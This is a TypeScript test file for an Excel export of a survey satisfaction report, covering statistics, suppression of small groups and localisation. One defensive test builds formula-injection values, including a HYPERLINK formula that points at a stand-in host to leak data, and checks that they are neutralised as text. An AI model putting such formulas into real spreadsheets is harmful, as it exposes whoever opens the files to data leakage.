import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ValueType, Workbook, type Cell, type Worksheet } from 'exceljs';
import { reportToXlsx } from './report-xlsx';
import { sampleReport } from './sample-report.fixture';

const ARTIFACTS = join(__dirname, '../../../../../test-artifacts/exports');

async function readBack(buffer: Buffer): Promise<Workbook> {
  const workbook = new Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook;
}

function cells(sheet: Worksheet): Cell[] {
  const found: Cell[] = [];
  sheet.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (cell) => found.push(cell)));
  return found;
}

/** The row whose first cell reads `label` (after `after`, to tell apart the tables of a sheet). */
function rowOf(sheet: Worksheet, label: string, after = 0): Array<Cell['value']> {
  for (let r = after + 1; r <= sheet.rowCount; r += 1) {
    const row = sheet.getRow(r);
    if (row.getCell(1).value === label) {
      const values: Array<Cell['value']> = [];
      for (let c = 1; c <= row.cellCount; c += 1) values.push(row.getCell(c).value);
      return values;
    }
  }
  throw new Error(`no row ${label}`);
}

function rowNumber(sheet: Worksheet, label: string): number {
  for (let r = 1; r <= sheet.rowCount; r += 1) if (sheet.getRow(r).getCell(1).value === label) return r;
  throw new Error(`no row ${label}`);
}

describe('reportToXlsx', () => {
  let workbook: Workbook;

  beforeAll(async () => {
    const buffer = await reportToXlsx(sampleReport());
    mkdirSync(ARTIFACTS, { recursive: true });
    writeFileSync(join(ARTIFACTS, 'sample-report.xlsx'), buffer);
    workbook = await readBack(buffer);
  });

  it('has a summary, the questions, one sheet per breakdown and one per crosstab', () => {
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
      'Summary',
      'Questions',
      'By country',
      'By segment',
      'Country × Segment',
    ]);
  });

  it('says on the summary what the report is and how suppression works', () => {
    const summary = workbook.getWorksheet('Summary')!;
    expect(summary.getCell('A1').value).toBe('Filer satisfaction 2025');
    expect(summary.getCell('A2').value).toBe('User satisfaction survey 2025');
    expect(rowOf(summary, 'Responses (n)')[1]).toBe('137');
    expect(rowOf(summary, 'Minimum group size (k)')[1]).toBe('5');
    expect(rowOf(summary, 'Period')[1]).toBe('March 3, 2025 to April 28, 2025');
    expect(rowOf(summary, 'Filters')[1]).toBe('submitted from March 1, 2025');
    const texts = cells(summary).map((cell) => String(cell.value));
    expect(texts.some((value) => value.includes('fewer than 5 respondents'))).toBe(true);
    expect(texts.some((value) => value.startsWith('Complementary suppression'))).toBe(true);
  });

  it('lists each question’s overall figures and its answers', () => {
    const questions = workbook.getWorksheet('Questions')!;
    const nps = rowOf(questions, 'How likely are you to recommend our filing services to a colleague?');
    // Question, n, mean, sd, ciLow, ciHigh, top-2-box, NPS, promoters, passives, detractors
    expect(nps.slice(0, 3)).toEqual(['How likely are you to recommend our filing services to a colleague?', 130, 6.93]);
    expect(nps[7]).toBe(8.46);
    expect(nps[8]).toBe(0.3231);
    const satisfaction = rowOf(questions, 'Overall, how satisfied are you with our services?');
    expect(satisfaction[1]).toBe(134);
    expect(satisfaction[6]).toBe(0.6866);
    expect(questions.getCell(rowNumber(questions, 'Overall, how satisfied are you with our services?'), 7).numFmt).toBe(
      '0.0%',
    );

    const answers = rowNumber(questions, 'Answers by question');
    const patents = rowOf(questions, 'Which services did you use?', answers);
    expect(patents).toEqual(['Which services did you use?', 'Patents', 88, 88 / 121]);
  });

  it('shows suppressed answers as suppressed, with a note giving the reason', () => {
    const questions = workbook.getWorksheet('Questions')!;
    const answers = rowNumber(questions, 'Answers by question');
    const nps = 'How likely are you to recommend our filing services to a colleague?';
    const first = rowNumber(questions, 'Answers by question') + 2;
    expect(rowOf(questions, nps, answers)).toEqual([nps, '0', 'suppressed', 'suppressed']);
    expect(questions.getCell(first, 3).note).toBe('fewer than 5 respondents (primary suppression)');
    const second = questions.getRow(first + 1);
    expect([second.getCell(2).value, second.getCell(3).value]).toEqual(['1', 'suppressed']);
    expect(JSON.stringify(second.getCell(3).note)).toContain('complementary suppression');
  });

  it('writes a breakdown sheet with a line per group; suppressed groups say so', () => {
    const sheet = workbook.getWorksheet('By country')!;
    expect(sheet.getRow(2).getCell(3).value).toBe(
      'How likely are you to recommend our filing services to a colleague?',
    );
    expect([
      sheet.getRow(3).getCell(3).value,
      sheet.getRow(3).getCell(4).value,
      sheet.getRow(3).getCell(5).value,
    ]).toEqual(['n', 'Mean', 'NPS']);
    expect(rowOf(sheet, 'France').slice(0, 5)).toEqual(['France', 60, 57, 7.21, 14.04]);
    expect(rowOf(sheet, 'Germany').slice(0, 2)).toEqual(['Germany', 40]);
    const luxembourg = rowOf(sheet, 'Luxembourg');
    expect(luxembourg.slice(1).every((value) => value === 'suppressed')).toBe(true);
    expect(luxembourg).toHaveLength(2 + 3 + 3 + 1 + 1);
    const switzerland = sheet.getRow(rowNumber(sheet, 'Switzerland'));
    expect(switzerland.getCell(2).value).toBe('suppressed');
    expect(JSON.stringify(switzerland.getCell(2).note)).toContain('complementary');
  });

  it('writes the crosstab with margins and its primary and complementary cells suppressed', () => {
    const sheet = workbook.getWorksheet('Country × Segment')!;
    expect(rowOf(sheet, 'Country / Segment').slice(0, 5)).toEqual([
      'Country / Segment',
      'Agent',
      'Applicant',
      'Holder',
      'Total',
    ]);
    expect(rowOf(sheet, 'France')).toEqual(['France', 30, 20, 10, 60]);
    expect(rowOf(sheet, 'Switzerland')).toEqual([
      'Switzerland',
      'suppressed',
      'suppressed',
      'suppressed',
      'suppressed',
    ]);
    expect(rowOf(sheet, 'Luxembourg')).toEqual(['Luxembourg', 'suppressed', 'suppressed', 'suppressed', 'suppressed']);
    expect(rowOf(sheet, 'Total')).toEqual(['Total', 70, 45, 22, 137]);
    const lu = sheet.getRow(rowNumber(sheet, 'Luxembourg'));
    expect(JSON.stringify(lu.getCell(2).note)).toContain('primary');
    const ch = sheet.getRow(rowNumber(sheet, 'Switzerland'));
    expect(JSON.stringify(ch.getCell(2).note)).toContain('complementary');

    const npsBlock = rowNumber(sheet, 'How likely are you to recommend our filing services to a colleague? (NPS)');
    expect(rowOf(sheet, 'France', npsBlock)).toEqual(['France', 17.24, 10.53, 11.11]);
    expect(rowOf(sheet, 'Luxembourg', npsBlock)).toEqual(['Luxembourg', 'suppressed', 'suppressed', 'suppressed']);
  });

  it('has no formula anywhere', () => {
    for (const sheet of workbook.worksheets) {
      for (const cell of cells(sheet)) {
        expect(cell.type).not.toBe(ValueType.Formula);
        expect(cell.formula).toBeUndefined();
      }
    }
  });

  it('stores titles and labels that look like formulas as text, prefixed with a quote', async () => {
    const dangerous = '=HYPERLINK("http://x.example/?leak","click")';
    const report = sampleReport({ title: dangerous, surveyTitle: '+1+1' });
    report.content.items[2].title = '@SUM(A1:A2)';
    report.content.items[2].distribution[0].label = '-2+3';
    report.content.breakdowns[0].groups[0].label = dangerous;
    report.content.crosstabs[0].columnValues[0].label = '=1+1';
    const workbook = await readBack(await reportToXlsx(report));
    const all = workbook.worksheets.flatMap(cells);
    for (const cell of all) {
      expect(cell.type).not.toBe(ValueType.Formula);
      expect(cell.formula).toBeUndefined();
    }
    // Prefixed with ' as in the CSV export, so they stay text once the sheet is saved as CSV too.
    const hostile = [dangerous, '+1+1', '@SUM(A1:A2)', '-2+3', '=1+1'];
    const stored = all.filter((cell) => hostile.map((value) => `'${value}`).includes(String(cell.value)));
    expect(new Set(stored.map((cell) => cell.value))).toEqual(new Set(hostile.map((value) => `'${value}`)));
    for (const cell of stored) expect(cell.type).toBe(ValueType.String);
    for (const cell of all) expect(typeof cell.value === 'string' && /^[=+\-@\t\r]/.test(cell.value)).toBe(false);
  });

  it('writes French fixed texts for a French report, right to left sheets for Arabic', async () => {
    const french = await readBack(await reportToXlsx(sampleReport({ language: 'fr' })));
    expect(french.worksheets.map((sheet) => sheet.name)).toEqual([
      'Synthèse',
      'Questions',
      'Par pays',
      'Par segment',
      'Pays × Segment',
    ]);
    expect(rowOf(french.getWorksheet('Synthèse')!, 'Réponses (n)')[1]).toBe('137');
    expect(rowOf(french.getWorksheet('Pays × Segment')!, 'Suisse')[1]).toBe('masqué');

    const arabic = await readBack(await reportToXlsx(sampleReport({ language: 'ar' })));
    expect(arabic.worksheets[0].views[0]).toEqual(expect.objectContaining({ rightToLeft: true }));
  });

  it('lists number, date and expression summaries after the answers, months as text, withheld ones marked', () => {
    const sheet = workbook.getWorksheet('Questions')!;
    const heading = rowNumber(sheet, 'Numbers and dates');
    expect(rowOf(sheet, 'How many applications did you file?', heading)).toEqual([
      'How many applications did you file?',
      128,
      14.25,
      3,
      8.5,
      21.75,
    ]);
    expect(rowOf(sheet, 'When did you last file?', heading)).toEqual([
      'When did you last file?',
      120,
      null,
      null,
      null,
      null,
      '2023-02',
      '2025-04',
    ]);
    expect(rowOf(sheet, 'Effort score', heading).slice(0, 3)).toEqual(['Effort score', 'suppressed', 'suppressed']);
  });
});
